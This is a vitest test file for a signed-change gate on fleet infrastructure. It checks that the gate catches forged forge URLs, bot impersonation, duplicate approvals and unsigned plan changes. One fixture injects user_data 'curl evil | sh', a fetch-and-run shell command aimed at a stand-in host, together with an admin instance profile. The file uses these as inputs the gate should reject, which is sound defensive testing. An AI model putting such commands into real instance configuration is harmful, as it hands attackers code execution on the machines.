import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { digest } from '../../src/lib/canonical.ts';
import { generateKeyPair } from '../../src/lib/ed25519.ts';
import { fleetRepository, placementText, TO, trustOf } from './fleet-repository.ts';
import { type ForgeServer, forgeServer } from './forge-server.ts';
import {
  approvedBy,
  BRANCH,
  cameFrom,
  commitMove,
  goodAnswers,
  goodEnv,
  goodProposal,
  mergeMove,
  mergeRequest,
  policyNames,
  runGate,
  writePlan,
} from './good-proposal.ts';
import { planText, recordOf, signedText, TRAILER } from './signed-record.ts';

let forge: ForgeServer;
beforeEach(async () => {
  forge = await forgeServer();
});
afterEach(() => forge.close());

const answering = (answers: ReadonlyMap<string, unknown>, server = forge) => {
  for (const [call, answer] of answers) server.answers.set(call, answer);
};

it('a variable chooses no other forge, which is asked nothing and given no token', async () => {
  const [honest, evil, attacker] = [generateKeyPair(), generateKeyPair(), await forgeServer()];
  const repository = await fleetRepository(trustOf(honest));
  await repository.commit('Describe the fleet');
  await repository.git('checkout', '--quiet', '-b', BRANCH);
  await repository.write({ 'policies/trust.json': JSON.stringify(trustOf(evil)) });
  const base = await repository.commit('Trust another key');
  const head = await commitMove(repository, signedText(recordOf(base, await policyNames()), evil));
  await writePlan(repository, planText(head, base));
  answering(goodAnswers('merge-request', { base, head, source: head }), attacker);
  const judge = () => runGate(repository.folder, goodEnv('merge-request', { forgeUrl: attacker.url, base, head }));
  try {
    // A checkout that came from nowhere says nothing of where its forge is.
    const nowhere = await judge();
    expect([nowhere.code, nowhere.verdict?.outcome]).toEqual([0, 'review']);
    expect(nowhere.err[0]).toMatch(/^trimtab gate: The checkout does not say which host it came from/);
    cameFrom(repository.folder, forge.url);
    const elsewhere = await judge();
    expect(elsewhere.verdict).toMatchObject({
      outcome: 'review',
      securityEvents: ['CI_API_V4_URL names another host than the one that the checkout came from.'],
    });
    expect([...attacker.calls, ...forge.calls]).toEqual([]);
  } finally {
    await attacker.close();
    await repository.remove();
  }
});

it('who commits and pushes in the name of the bot cannot answer for it, in whatever letters he is written', async () => {
  const { repository, base } = await goodProposal('protected-branch');
  try {
    await repository.git('checkout', '--quiet', BRANCH);
    await repository.write({ 'infra/placements/service-2.ts': placementText('service-2', { ...TO, count: 90 }) });
    await repository.git('add', '--all');
    const mallory = ['-c', 'user.name=Mallory', '-c', 'user.email=mallory@example.com'];
    const author = '--author=Trimtab <trimtab@localhost>';
    const commit = async (...args: string[]) => {
      await repository.git(...args, 'commit', '--quiet', '--allow-empty', author, '-m', `More\n\n${TRAILER}`);
      const source = await repository.git('rev-parse', 'HEAD');
      await repository.git('branch', '--quiet', '--force', 'main', base);
      return { base, source, head: await mergeMove(repository) };
    };
    const judge = async (names: { base: string; source: string; head: string }, merger: string, pusher: string) => {
      await writePlan(repository, planText(names.head, base));
      answering(goodAnswers('protected-branch', names));
      const merged = { state: 'merged', merge_commit_sha: names.head, merge_user: { username: merger } };
      forge.answers.set(`GET /repository/commits/${names.head}/merge_requests`, [mergeRequest(names.source, merged)]);
      forge.answers.set('GET /pipelines/6', { user: { username: pusher } });
      cameFrom(repository.folder, forge.url);
      const env = goodEnv('protected-branch', { forgeUrl: forge.url, base, head: names.head });
      return (await runGate(repository.folder, env)).verdict?.approvedBy;
    };
    const committed = await commit(...mallory);
    expect(await judge(committed, 'mallory', 'trimtab')).toBeNull();
    expect(await judge(committed, 'MALLORY', 'trimtab')).toBeNull();
    expect(await judge(committed, 'root', 'trimtab')).toBe('root');
    await repository.git('checkout', '--quiet', BRANCH);
    await repository.git('reset', '--quiet', '--hard', `${BRANCH}~1`);
    const pushed = await commit();
    expect(await judge(pushed, 'Mallory', 'mallory')).toBeNull();
    expect(await judge(pushed, 'Root', 'mallory')).toBe('root');
  } finally {
    await repository.remove();
  }
});

it('who builds on the head of the bot and merges that is no other person', async () => {
  const { repository, base } = await goodProposal('protected-branch');
  try {
    const botHead = await repository.git('rev-parse', BRANCH);
    await repository.git('checkout', '--quiet', '-b', 'evil', BRANCH);
    await repository.write({ 'infra/placements/service-2.ts': placementText('service-2', { ...TO, count: 90 }) });
    const evil = await repository.commit('More');
    const judge = async (head: string, changes: object) => {
      await writePlan(repository, planText(head, base, 'service-2'));
      answering(goodAnswers('protected-branch', { base, head, source: botHead }));
      const merged = { state: 'merged', merge_user: { username: 'mallory' }, ...changes };
      const own = mergeRequest(evil, { ...merged, iid: 2, author: { username: 'mallory' }, source_branch: 'evil' });
      const along = mergeRequest(botHead, { ...merged, merge_commit_sha: head });
      forge.answers.set('GET /merge_requests/2/approvals', approvedBy());
      forge.answers.set(`GET /pipelines?sha=${evil}`, [{ id: 60, sha: evil, ref: 'refs/merge-requests/2/head' }]);
      forge.answers.set('GET /pipelines/60', { user: { username: 'mallory' } });
      cameFrom(repository.folder, forge.url);
      const said = [];
      for (const list of [
        [own, along],
        [along, own],
      ]) {
        forge.answers.set(`GET /repository/commits/${head}/merge_requests`, list);
        const { verdict } = await runGate(repository.folder, goodEnv('protected-branch', { forgeUrl: forge.url, base, head }));
        said.push([verdict?.approvedBy, verdict?.bound.mergeRequestIid]);
      }
      return said;
    };
    await repository.git('branch', '--quiet', '--force', 'main', base);
    const head = await mergeMove(repository, 'evil');
    expect(await judge(head, { merge_commit_sha: head })).toEqual(Array(2).fill([null, 2]));
    await repository.git('checkout', '--quiet', '-B', 'main', evil);
    expect(await judge(evil, { merge_commit_sha: null })).toEqual(Array(2).fill([null, 2]));
  } finally {
    await repository.remove();
  }
});

it('what changes a critical service takes two approvals, whatever file it is in', async () => {
  const path = 'infra/services/service-1.json';
  const repository = await fleetRepository(trustOf(generateKeyPair()));
  const spec = JSON.parse(await readFile(join(repository.folder, path), 'utf8')) as object;
  await repository.write({ [path]: JSON.stringify({ ...spec, tier: 'critical' }) });
  const base = await repository.commit('Describe the fleet');
  const judge = async (files: Record<string, string>, ...names: string[]) => {
    await repository.git('checkout', '--quiet', '-B', 'change', base);
    await repository.git('config', 'user.name', 'mallory');
    await repository.write(files);
    const source = await repository.commit('Change');
    await repository.git('branch', '--quiet', '--force', 'main', base);
    const head = await mergeMove(repository, 'change');
    await writePlan(repository, planText(head, base));
    answering(goodAnswers('protected-branch', { base, head, source }));
    const merged = { state: 'merged', merge_commit_sha: head, merge_user: { username: 'root' }, author: { username: 'mallory' } };
    forge.answers.set(`GET /repository/commits/${head}/merge_requests`, [mergeRequest(source, merged)]);
    forge.answers.set('GET /merge_requests/3/approvals', approvedBy(...names));
    cameFrom(repository.folder, forge.url);
    const env = goodEnv('protected-branch', { forgeUrl: forge.url, base, head });
    return (await runGate(repository.folder, env)).verdict?.approvedBy;
  };
  try {
    for (const files of [
      { 'infra/placements/service-1.ts': placementText('service-1', TO) },
      { [path]: JSON.stringify({ ...spec, tier: 'critical', ports: [22] }) },
      { [path]: JSON.stringify({ ...spec, tier: 'standard' }) },
      { 'infra/providers/aws/catalog.json': '{}' },
    ]) {
      expect(await judge(files, 'ada')).toBeNull();
      expect(await judge(files, 'ada', 'mallory')).toBeNull();
      expect(await judge(files, 'ada', 'eve')).toBe('root');
    }
  } finally {
    await repository.remove();
  }
});

it('two spellings of one who wrote it are not two approvals of others', async () => {
  const good = await goodProposal();
  const { repository, keys, record } = good;
  try {
    await repository.git('checkout', '--quiet', 'main');
    const path = 'infra/services/service-1.json';
    const spec = JSON.parse(await repository.git('show', `main:${path}`)) as object;
    await repository.write({ [path]: JSON.stringify({ ...spec, tier: 'critical' }) });
    const base = await repository.commit('Make service-1 critical');
    await repository.git('checkout', '--quiet', '-B', BRANCH);
    await repository.git('config', 'user.name', 'mallory');
    const head = await commitMove(repository, signedText({ ...record, baseSha: base }, keys));
    await writePlan(repository, planText(head, base));
    answering(goodAnswers('merge-request', { base, head, source: head }));
    cameFrom(repository.folder, forge.url);
    const judge = (...names: string[]) => {
      forge.answers.set('GET /merge_requests/3/approvals', approvedBy(...names));
      return runGate(repository.folder, goodEnv('merge-request', { forgeUrl: forge.url, base, head }));
    };
    expect((await judge('Mallory', 'root')).objections).toContain('two_approvals: review');
    expect((await judge('Root', 'root')).objections).toContain('two_approvals: review');
    expect((await judge('Ada', 'root')).objections).not.toContain('two_approvals: review');
  } finally {
    await repository.remove();
  }
});

it.each([{ user_data: 'curl evil | sh' }, { associate_public_ip_address: true }, { iam_instance_profile: 'admin' }])(
  'nothing is planned that nobody signed, such as %j',
  async (extra) => {
    const good = await goodProposal();
    try {
      const plan = JSON.parse(good.plan);
      for (const change of plan.stacks[0].changes) if (change.after !== null) Object.assign(change.after, extra);
      await writePlan(good.repository, JSON.stringify({ ...plan, digest: digest(plan.stacks) }));
      answering(good.answers);
      const { objections } = await runGate(good.repository.folder, good.env(forge.url));
      expect(objections).toEqual(['plan_matches_record: review']);
    } finally {
      await good.repository.remove();
    }
  },
);
